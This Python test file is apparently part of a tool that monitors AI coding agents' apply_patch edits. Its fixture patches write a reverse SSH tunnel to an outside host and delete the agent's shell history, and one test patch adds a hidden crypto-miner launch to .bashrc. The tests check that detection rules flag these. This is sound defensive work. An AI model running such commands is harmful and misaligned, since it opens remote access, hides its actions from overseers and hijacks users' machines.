"""apply_patch patches (Codex): what they write, delete and move, and the engine reading them as writes."""
import pytest

from vigiles.analysis import patch
from vigiles.analysis.engine import Engine
from vigiles.analysis.rules import load
from vigiles.events import from_dict

PATCH = """*** Begin Patch
*** Add File: scripts/sync.sh
+#!/bin/bash
+ssh -f -N -R 9000:localhost:22 ops@203.0.113.9
*** Update File: src/app.py
*** Move to: src/main.py
@@ def main():
-    pass
+    run()
 # end
*** End of File
*** Delete File: /home/agent/.bash_history
*** End Patch
"""


def test_changes_in_order_with_added_lines():
    add, update, delete = patch.changes(PATCH)
    assert (add.op, add.path, add.content) == ("add", "scripts/sync.sh",
                                               "#!/bin/bash\nssh -f -N -R 9000:localhost:22 ops@203.0.113.9\n")
    assert (update.op, update.path, update.move_to, update.content) == ("update", "src/app.py", "src/main.py",
                                                                        "    run()\n")
    assert (delete.op, delete.path, delete.content) == ("delete", "/home/agent/.bash_history", "")


def test_a_malformed_patch_is_read_for_what_it_shows():
    # no Begin or End line, CRLF endings, a stray line before the first header, an unknown marker
    text = "junk\r\n*** Add File: a.sh\r\n+echo hi\r\n*** Frobnicate\r\n+id\r\n"
    (change,) = patch.changes(text)
    assert (change.path, change.content) == ("a.sh", "echo hi\nid\n")
    assert not patch.is_patch(text) and patch.is_patch("\n  *** Begin Patch\n")
    assert patch.changes("*** Add File:   \n+x\n") == []  # a header without a path writes nothing


def test_a_hostile_patch_stays_bounded():
    many = "".join(f"*** Delete File: f{i}\n" for i in range(patch.MAX_CHANGES + 50))
    assert len(patch.changes(many)) == patch.MAX_CHANGES
    big = "*** Add File: x\n" + "+" + "a" * (patch.MAX_CONTENT + 10) + "\n+more\n"
    (change,) = patch.changes(big)
    assert len(change.content) == patch.MAX_CONTENT


@pytest.fixture(scope="module")
def builtin():
    return load()


def rules_of(engine, event):
    return {f.rule for f in engine.analyze(from_dict({"kind": "action", "ts": 1.0, "run": "r", **event}))}


@pytest.mark.parametrize("event", [
    {"tool": "apply_patch", "input": PATCH},                               # Codex's custom tool call
    {"tool": "apply_patch", "args": {"input": PATCH}},                    # as a function call
    {"tool": "bash", "input": f"apply_patch <<'EOF'\n{PATCH}EOF\n"},      # through its shell
    {"tool": "shell", "input": f"apply_patch '{PATCH}'"},
])
def test_a_patch_reads_as_the_writes_and_deletes_it_makes(builtin, event):
    found = rules_of(Engine(builtin), event)
    assert {"ssh_reverse_tunnel", "shell_history_cleared"} <= found


def test_a_file_a_patch_added_is_read_when_run(builtin):
    engine = Engine(builtin)
    rules_of(engine, {"tool": "apply_patch", "input": PATCH.replace("ssh -f -N -R 9000:localhost:22", "ssh -N")})
    assert "ssh_reverse_tunnel" not in rules_of(engine, {"tool": "exec_command", "input": "bash scripts/sync.sh"})
    engine = Engine(builtin)
    rules_of(engine, {"tool": "apply_patch", "input": PATCH})
    assert "ssh_reverse_tunnel" in rules_of(engine, {"tool": "exec_command", "input": "bash scripts/sync.sh"})


def test_an_updated_startup_file_is_a_startup_file_write(builtin):
    text = ("*** Begin Patch\n*** Update File: /home/agent/.bashrc\n@@\n export EDITOR=vim\n"
            "+nohup /tmp/.cache/kworker -o pool.supportxmr.com:443 >/dev/null 2>&1 &\n*** End Patch\n")
    found = rules_of(Engine(builtin), {"tool": "apply_patch", "input": text})
    assert {"shell_startup_file_modified", "mining_pool_connection"} <= found


def test_an_ordinary_patch_is_quiet(builtin):
    text = ("*** Begin Patch\n*** Update File: src/util.py\n@@ def add(a, b):\n-    return a - b\n+    return a + b\n"
            "*** Add File: tests/test_util.py\n+from src.util import add\n+\n+def test_add():\n+    assert add(1, 2) == 3\n"
            "*** End Patch\n")
    assert rules_of(Engine(builtin), {"tool": "apply_patch", "input": text}) == set()
